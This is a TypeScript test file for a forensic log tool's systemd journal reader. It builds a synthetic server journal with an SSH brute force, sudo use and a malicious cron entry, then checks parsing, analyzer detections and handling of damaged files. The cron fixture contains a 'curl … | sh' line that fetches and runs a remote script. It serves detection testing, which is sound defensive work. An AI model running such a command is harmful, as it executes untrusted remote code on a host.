/**
 * The journal reader on journal files made on this machine: entries written in the export format by
 * test/support/linux/journal-export.ts, turned into journal files (compact and regular layouts, large
 * messages zstd-compressed) by systemd-journal-remote, read back by konseki and compared field by
 * field with `journalctl --file -o export` of the same files. Skips when the tools are missing.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { linuxAnalyzers } from '../../../src/analytics/linux/index.ts';
import { DEFAULT_ANALYSIS_OPTIONS } from '../../../src/analytics/types.ts';
import type { Event } from '../../../src/core/event.ts';
import type { Issue } from '../../../src/core/issue.ts';
import { JournalFile, type JournalProblem } from '../../../src/sources/linux/journal-file.ts';
import { journalReader } from '../../../src/sources/linux/journal-reader.ts';
import { lz4BlockDecode } from '../../../src/sources/linux/lz4-block.ts';
import { mulberry32 } from '../../../src/core/rng.ts';
import {
  type ExportEntry,
  JOURNAL_REMOTE,
  JOURNALCTL,
  journalFromExport,
  readExport,
} from '../../support/linux/journal-export.ts';
import { have } from '../../support/linux/tools.ts';

const missing = !JOURNAL_REMOTE ? 'systemd-journal-remote' : !JOURNALCTL ? 'journalctl' : '';
if (missing)
  console.warn(
    `test/sources/linux/journal.test.ts: ${missing} is not installed (Debian: systemd-journal-remote); skipped`,
  );

const BOOT = '6f1e2d3c4b5a69788796a5b4c3d2e1f0';
const T0 = 1_760_000_000_000_000; // 2025-10-09, µs

/** A server's journal: sshd brute force from one address then a success, sudo, cron, long and binary messages. */
function entries(n: number, seed = 1): ExportEntry[] {
  const rnd = mulberry32(seed);
  const out: ExportEntry[] = [];
  const users = ['admin', 'test', 'oracle', 'guest', 'ubuntu', 'pi', 'postgres'];
  for (let i = 0; i < n; i++) {
    const ts = T0 + i * 1_500_000 + Math.floor(rnd() * 1000);
    const pid = 2000 + i;
    const base: ExportEntry = [
      ['__REALTIME_TIMESTAMP', String(ts)],
      ['__MONOTONIC_TIMESTAMP', String(10_000_000 + i * 1_500_000)],
      ['_BOOT_ID', BOOT],
      ['_HOSTNAME', 'web01'],
      ['PRIORITY', '6'],
      ['_TRANSPORT', 'syslog'],
    ];
    let msg: string;
    let ident = 'sshd';
    if (i === n - 3) msg = 'Accepted password for admin from 203.0.113.9 port 50022 ssh2';
    else if (i === n - 2) {
      ident = 'sudo';
      msg = 'admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/id';
    } else if (i === n - 1) {
      ident = 'CRON';
      msg = `(root) CMD (curl -s http://198.51.100.7/x.sh | sh ${'#'.repeat(900)})`; // long: compressed
    } else if (i % 17 === 5) {
      ident = 'kernel';
      msg = `audit: ${'x'.repeat(700 + Math.floor(rnd() * 3000))}`;
    } else msg = `Failed password for invalid user ${users[i % users.length]} from 203.0.113.9 port ${40000 + i} ssh2`;
    out.push([
      ...base,
      ['SYSLOG_IDENTIFIER', ident],
      ['_PID', String(pid)],
      ['_COMM', ident.toLowerCase()],
      ['MESSAGE', msg],
      ...(i % 11 === 3 ? ([['BINARY_BLOB', Buffer.from([0, 1, 2, 0xff, 0x0a, 0x3d])]] as ExportEntry) : []),
      ...(i % 13 === 4
        ? ([
            ['TAG', 'a'],
            ['TAG', 'b'],
          ] as ExportEntry)
        : []),
    ]);
  }
  return out;
}

async function readAll(path: string, display = path): Promise<{ events: Event[]; issues: Issue[] }> {
  const issues: Issue[] = [];
  const events: Event[] = [];
  for await (const e of journalReader.read(path, { issues, displayPath: display })) events.push(e);
  return { events, issues };
}

describe.skipIf(!!missing)(
  `journal reader against journalctl${missing ? ` (skipped: ${missing} missing)` : ''}`,
  () => {
    const dir = mkdtempSync(join(tmpdir(), 'konseki-journal-'));

    for (const compact of [true, false]) {
      it(`reads every entry and field as journalctl does (${compact ? 'compact' : 'regular'} layout, zstd)`, async () => {
        const path = join(dir, `web01-${compact ? 'compact' : 'regular'}.journal`);
        journalFromExport(entries(120, compact ? 1 : 2), path, compact);
        expect(journalReader.sniff(readFileSync(path).subarray(0, 4096), path)).toBe(1);
        const problems: JournalProblem[] = [];
        const j = JournalFile.open(path, problems)!;
        expect(j.header.compact).toBe(compact);
        const ours = [...j.entries(problems)];
        j.close();
        expect(problems).toEqual([]);
        const theirs = readExport(path);
        expect(ours.length).toBe(theirs.length);
        for (let i = 0; i < ours.length; i++) {
          const t = new Map<string, Buffer[]>();
          for (const [k, v] of theirs[i]!.fields) t.set(k, [...(t.get(k) ?? []), v]);
          const o = ours[i]!;
          expect(String(o.realtime)).toBe(t.get('__REALTIME_TIMESTAMP')![0]!.toString());
          expect(String(o.monotonic)).toBe(t.get('__MONOTONIC_TIMESTAMP')![0]!.toString());
          expect(o.bootId).toBe(t.get('_BOOT_ID')![0]!.toString());
          // journalctl adds the address fields (__CURSOR, __REALTIME_TIMESTAMP, ...); the rest are the entry's fields
          const theirFields = theirs[i]!.fields.filter(([k]) => !k.startsWith('__'));
          expect(o.fields.map((f) => [f.name, f.value.toString('hex')]).sort()).toEqual(
            theirFields.map(([k, v]) => [k, v.toString('hex')]).sort(),
          );
        }
        // the long messages were compressed in the file: the check above read them through zstd
        const raw = readFileSync(path);
        expect(raw.includes(Buffer.from('x'.repeat(700)))).toBe(false);
        expect(ours.some((e) => e.fields.some((f) => f.name === 'MESSAGE' && f.value.length > 700))).toBe(true);
      });
    }

    it('feeds the Linux analyses as auth.log does: brute force then success, sudo, cron', async () => {
      const path = join(dir, 'analyses.journal');
      journalFromExport(entries(60), path);
      const { events, issues } = await readAll(path, 'evidence/var/log/journal/x/system.journal');
      expect(issues.filter((i) => i.severity !== 'info')).toEqual([]);
      expect(events).toHaveLength(60);
      expect(events[0]!.ts).toBeGreaterThanOrEqual(T0);
      expect(events[0]!.host).toBe('web01');
      const actions = new Map<string, number>();
      for (const e of events) actions.set(String(e.fields.Action), (actions.get(String(e.fields.Action)) ?? 0) + 1);
      expect(actions.get('ssh_accepted')).toBe(1);
      expect(actions.get('sudo_command')).toBe(1);
      expect(actions.get('cron_exec')).toBe(1);
      expect(actions.get('ssh_invalid_user') ?? actions.get('ssh_failed')).toBeGreaterThan(40);
      const analyzers = linuxAnalyzers({ ...DEFAULT_ANALYSIS_OPTIONS });
      for (const e of events) for (const a of analyzers) if (a.wants(e)) a.add(e);
      const findings = analyzers.flatMap((a) => a.finish());
      const bf = findings.find((f) => f.kind.startsWith('brute-force') && f.peer === '203.0.113.9');
      expect(bf, JSON.stringify(findings.map((f) => f.kind))).toBeDefined();
      expect(findings.some((f) => f.producer === 'linux-cron-persistence')).toBe(true);
    });

    it('reports damage with offsets and never throws: truncated, bad object, XZ-flagged field', async () => {
      const path = join(dir, 'good.journal');
      journalFromExport(entries(80), path);
      const size = readFileSync(path).length;
      const cut = join(dir, 'cut.journal');
      copyFileSync(path, cut);
      truncateSync(cut, Math.floor(size / 30));
      const a = await readAll(cut);
      expect(a.events.length).toBeLessThan(80);
      expect(a.issues.length).toBeGreaterThan(0);
      // an XZ flag on the compressed objects: those fields are skipped and said to be
      const buf = readFileSync(path);
      const hs = Number(buf.readBigUInt64LE(88));
      const end = hs + Number(buf.readBigUInt64LE(96));
      let flagged = 0;
      for (let off = hs; off + 16 <= end; ) {
        const sz = Number(buf.readBigUInt64LE(off + 8));
        if (!sz) break;
        if (buf[off] === 1 && buf[off + 1] === 4) {
          buf[off + 1] = 1;
          flagged++;
        }
        off += Math.ceil(sz / 8) * 8;
      }
      expect(flagged).toBeGreaterThan(0);
      const xz = join(dir, 'xz.journal');
      writeFileSync(xz, buf);
      const b = await readAll(xz);
      expect(b.events).toHaveLength(80);
      expect(b.issues.filter((i) => i.code === 'journal.xz').length).toBe(Math.min(flagged, 20));
      // random bytes over the object area
      const rnd = mulberry32(7);
      for (let k = 0; k < 20; k++) {
        const f = readFileSync(path);
        for (let m = 0; m < 50; m++) f[hs + Math.floor(rnd() * (f.length - hs))] = Math.floor(rnd() * 256);
        const p = join(dir, `fuzz-${k}.journal`);
        writeFileSync(p, f);
        const r = await readAll(p);
        expect(r.events.length).toBeLessThanOrEqual(80);
      }
    });
  },
);

describe.skipIf(!have('lz4'))('LZ4 block decoding (blocks taken from frames the lz4 tool writes)', () => {
  it('decodes what lz4 compressed', () => {
    const dir = mkdtempSync(join(tmpdir(), 'konseki-lz4-'));
    const rnd = mulberry32(3);
    for (const size of [0, 1, 15, 300, 5000, 60000]) {
      const words = ['sshd', 'Failed', 'password', 'for', 'root', 'from', '10.0.0.1', '\n'];
      let text = '';
      while (text.length < size) text += `${words[Math.floor(rnd() * words.length)]} `;
      const input = Buffer.from(text.slice(0, size));
      const src = join(dir, `in-${size}`);
      writeFileSync(src, input);
      const frame = execFileSync('lz4', ['-c', '-q', '-B4', '--no-frame-crc', src]);
      // frame: magic, FLG, BD, [content size], HC, then blocks of (LE32 size | 0x80000000 when stored raw)
      let p = 4;
      const flg = frame[p]!;
      p += 2 + (flg & 0x08 ? 8 : 0) + (flg & 0x01 ? 4 : 0) + 1;
      const parts: Buffer[] = [];
      for (;;) {
        const word = frame.readUInt32LE(p);
        p += 4;
        if (word === 0) break;
        const len = word & 0x7fffffff;
        const block = frame.subarray(p, p + len);
        p += len + (flg & 0x10 ? 4 : 0);
        if (word & 0x80000000) parts.push(Buffer.from(block));
        else {
          const expected = Math.min(65536, input.length - parts.reduce((s, b) => s + b.length, 0));
          const d = lz4BlockDecode(block, expected);
          expect(d).toBeDefined();
          parts.push(Buffer.from(d!));
        }
      }
      expect(Buffer.concat(parts).equals(input)).toBe(true);
    }
    expect(lz4BlockDecode(Buffer.from([0x1f, 0x61, 0x05, 0x00]), 100)).toBeUndefined(); // offset beyond output
  });
});
